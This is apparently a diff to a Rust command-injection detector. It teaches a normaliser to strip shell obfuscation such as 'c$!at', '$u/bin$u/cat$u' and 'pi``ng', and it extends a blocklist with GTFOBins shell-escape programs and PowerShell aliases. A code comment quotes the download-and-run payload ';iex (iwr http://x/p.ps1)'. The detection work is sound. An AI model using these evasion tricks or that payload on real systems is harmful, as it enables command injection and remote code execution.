@@ -50,8 +50,8 @@ fn unshell(s: &[u8], out: &mut Vec<u8>) {
                     }
                     continue;
                 }
-                // `who$@ami`, `c$()at`, `$9`
-                if matches!(s.get(i + 1), Some(b'@' | b'*'))
+                // `who$@ami`, `c$!at`, `c$()at`, `$9`
+                if matches!(s.get(i + 1), Some(b'@' | b'*' | b'!'))
                     || s.get(i + 1).is_some_and(u8::is_ascii_digit)
                 {
                     i += 2;
@@ -61,7 +61,24 @@ fn unshell(s: &[u8], out: &mut Vec<u8>) {
                     i += 3;
                     continue;
                 }
+                // `$u/bin$u/cat$u`: a variable nobody set, glued to a word
+                // or a path, expands to nothing.
+                if s.get(i + 1).is_some_and(u8::is_ascii_lowercase) {
+                    let mut j = i + 1;
+                    while j < n && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
+                        j += 1;
+                    }
+                    if i > 0 && word(i - 1) || word(j) {
+                        i = j;
+                        continue;
+                    }
+                }
                 out.push(c);
+            }
+            // `pi``ng`: an empty command substitution inside a word.
+            b'`' if s.get(i + 1) == Some(&b'`') && i > 0 && word(i - 1) && word(i + 2) => {
+                i += 2;
+                continue;
             }
             // Quotes and escapes inside a word: `w'h'o'am'i`, `c\at`, `w^h^o`.
             b'\'' | b'"' | b'\\' | b'^' if i > 0 && word(i - 1) && word(i + 1) => {}
@@ -251,6 +268,49 @@ fn command(cmd: &[u8]) -> bool {
                 | b"gzip"
                 | b"chattr"
                 | b"lsattr"
+                // GTFOBins: programs that run a shell or read files for
+                // whoever can start them.
+                | b"lastlog"
+                | b"lastb"
+                | b"last"
+                | b"gdb"
+                | b"vim"
+                | b"vi"
+                | b"c89"
+                | b"c99"
+                | b"tclsh"
+                | b"strace"
+                | b"ltrace"
+                | b"rsync"
+                | b"sftp"
+                | b"tmux"
+                | b"screen"
+                | b"xterm"
+                | b"jjs"
+                | b"jrunscript"
+                | b"irb"
+                | b"rlwrap"
+                | b"setsid"
+                | b"stdbuf"
+                | b"unshare"
+                | b"chroot"
+                | b"capsh"
+                | b"taskset"
+                | b"ionice"
+                | b"ash"
+                | b"rbash"
+                | b"mksh"
+                | b"expect"
+                | b"make"
+                | b"mysql"
+                | b"psql"
+                | b"sqlite3"
+                | b"docker"
+                | b"kubectl"
+                // PowerShell's aliases: `;iex (iwr http://x/p.ps1)`.
+                | b"iex"
+                | b"iwr"
+                | b"irm"
         )
 }
 
@@ -390,7 +450,10 @@ const fn byte_classes() -> [u8; 256] {
     let mut i = 0;
     while i < 256 {
         let c = i as u8;
-        if matches!(c, b'$' | b'\'' | b'"' | b'\\' | b'^' | b',' | b'+' | 0) {
+        if matches!(
+            c,
+            b'$' | b'\'' | b'"' | b'\\' | b'^' | b',' | b'+' | b'`' | 0
+        ) {
             table[i] |= UNSHELL;
         }
         if matches!(
@@ -605,6 +668,12 @@ fn english(cmd: &[u8]) -> bool {
             | b"finger"
             | b"strings"
             | b"export"
+            | b"last"
+            | b"screen"
+            | b"expect"
+            | b"make"
+            | b"vi"
+            | b"ash"
     )
 }
 
